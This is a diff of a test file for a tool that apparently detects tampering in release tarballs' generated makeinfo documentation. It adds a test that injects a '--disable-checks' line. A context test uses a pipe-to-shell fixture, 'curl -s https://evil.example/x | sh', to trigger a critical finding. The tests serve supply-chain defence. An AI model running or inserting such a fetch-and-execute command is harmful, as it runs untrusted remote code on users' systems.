@@ -127,6 +127,14 @@ describe('makeinfo output from tracked texinfo', () => {
     }
   }, 240_000);
 
+  it("a line added to makeinfo 7's Unicode text: the diff is against the shipped text read in ASCII, so only the line shows", async () => {
+    const injected = unicode(plain).replace('   \u2022 Some HP-UX', '     Speed it up with --disable-checks.\n\n   \u2022 Some HP-UX');
+    const { f } = await notesFinding(release(injected, { 'doc/demo.info': INFO_7 }));
+    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_MISMATCH', severity: 'high', evidence: { differingLines: 2, normalisations: ['unicode-punctuation'], releaseVersion: '7.1.1' } });
+    if (f.diff?.kind !== 'text') throw new Error('no text diff');
+    expect((f.diff.unified ?? '').split('\n').filter((l) => /^[+-][^+-]/.test(l) || l === '+' || l === '-')).toEqual(['+     Speed it up with --disable-checks.', '+']);
+  }, 120_000);
+
   it('a pipe-to-shell line injected: critical', async () => {
     const { f } = await notesFinding(release(`${plain}\n   curl -s https://evil.example/x | sh\n`));
     expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_MISMATCH', severity: 'critical', severityReason: { reason: 'suspicious-constructs', default: 'high' } });
